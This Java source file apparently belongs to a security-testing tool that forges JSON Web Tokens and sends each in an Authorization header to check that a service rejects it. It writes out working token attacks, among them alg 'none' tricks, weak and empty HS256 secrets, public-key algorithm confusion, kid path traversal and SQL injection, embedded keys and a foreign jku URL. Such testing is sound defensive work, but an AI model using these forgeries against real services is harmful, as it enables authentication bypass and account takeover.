package dev.portcullis.drill;

import static java.nio.charset.StandardCharsets.UTF_8;

import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** Tokens that no issuer has signed, after the pattern of the good one where there is one. */
final class TokenTricks implements Tricks {

    private static final String NOWHERE = "http://127.0.0.1:9/keys.json";
    private static final long HOUR = 3600;
    private static final List<String> OF_GOOD = List.of("signature-stripped", "signature-altered", "claims-altered");

    @Override
    public String kind() {
        return "jwt";
    }

    @Override
    public String about() {
        return "Tokens that no issuer has signed";
    }

    @Override
    public List<String> ids() {
        var ids = new ArrayList<>(
                forged(Forgery.object(), Forgery.object(), "key", 0).keySet());
        ids.addAll(OF_GOOD);
        return ids;
    }

    @Override
    public List<Shot> against(Scene scene) {
        var good = scene.token();
        var header = Forgery.part(good, 0);
        var claims = claims(Forgery.part(good, 1), scene.now());
        var tokens = forged(header, claims, scene.publicKey(), scene.now());
        if (!header.isEmpty()) {
            tokens.putAll(altered(good, claims));
        }
        var shots = new ArrayList<Shot>();
        tokens.forEach((id, token) -> {
            var attack = scene.bare().line("Authorization: Bearer " + token);
            shots.add(new Shot(id, "field Authorization", attack, scene.bare(), Proof.NO_WAY_IN));
        });
        return shots;
    }

    private static ObjectNode claims(ObjectNode good, long now) {
        if (!good.isEmpty()) {
            return good;
        }
        return Forgery.object()
                .put("iss", "https://issuer.example")
                .put("sub", "admin")
                .put("aud", "portcullis")
                .put("scope", "admin")
                .put("iat", now)
                .put("exp", now + HOUR);
    }

    private static Map<String, String> altered(String good, ObjectNode claims) {
        var signature = good.substring(good.lastIndexOf('.') + 1);
        var content = good.substring(0, good.lastIndexOf('.'));
        var altered = new LinkedHashMap<String, String>();
        altered.put(OF_GOOD.get(0), content + ".");
        var first = signature.startsWith("A") ? "B" : "A";
        altered.put(OF_GOOD.get(1), content + "." + first + signature.substring(Math.min(1, signature.length())));
        var other = Forgery.text(claims.deepCopy()
                .put("sub", "admin")
                .put("exp", Long.MAX_VALUE / 1000)
                .toString()
                .getBytes(UTF_8));
        altered.put(OF_GOOD.get(2), good.substring(0, good.indexOf('.') + 1) + other + "." + signature);
        return altered;
    }

    private static Map<String, String> forged(ObjectNode good, ObjectNode claims, String publicKey, long now) {
        var tokens = new LinkedHashMap<String, String>();
        tokens.put("alg-none", Forgery.unsigned(header(good, "none"), claims) + ".");
        tokens.put("alg-none-mixed-case", Forgery.unsigned(header(good, "nOnE"), claims) + ".");
        tokens.put("alg-none-with-signature", Forgery.unsigned(header(good, "none"), claims) + ".AAAA");
        tokens.put("hs256-empty-secret", Forgery.withSecret(header(good, "HS256"), claims, new byte[0]));
        tokens.put("hs256-weak-secret", Forgery.withSecret(header(good, "HS256"), claims, "secret".getBytes(UTF_8)));
        if (!publicKey.isEmpty()) {
            tokens.put(
                    "hs256-public-key", Forgery.withSecret(header(good, "HS256"), claims, publicKey.getBytes(UTF_8)));
        }
        var file = header(good, "HS256").put("kid", "../../../../../../dev/null");
        tokens.put("kid-file", Forgery.withSecret(file, claims, new byte[0]));
        var sql = header(good, "HS256").put("kid", "x' UNION SELECT 'secret' -- ");
        tokens.put("kid-sql", Forgery.withSecret(sql, claims, "secret".getBytes(UTF_8)));
        tokens.put("foreign-key", Forgery.withOwnKey(header(good, "RS256"), claims));
        var issuer = claims.deepCopy().put("iss", "https://portcullis-attack.example");
        tokens.put("foreign-issuer", Forgery.withOwnKey(header(good, "RS256"), issuer));
        var embedded = header(good, "RS256").put("kid", "portcullis-attack");
        tokens.put("embedded-jwk", Forgery.withOwnKey(embedded.set("jwk", Forgery.ownKey()), claims));
        tokens.put("foreign-jku", Forgery.withOwnKey(header(good, "RS256").put("jku", NOWHERE), claims));
        tokens.put(
                "expired",
                Forgery.withOwnKey(header(good, "RS256"), claims.deepCopy().put("exp", now - HOUR)));
        return tokens;
    }

    /** The header of the good token with another algorithm, so that the key is looked for that there is. */
    private static ObjectNode header(ObjectNode good, String algorithm) {
        var header = Forgery.object()
                .put("alg", algorithm)
                .put("typ", good.path("typ").asText("JWT"));
        return good.hasNonNull("kid") ? header.put("kid", good.path("kid").asText()) : header;
    }
}
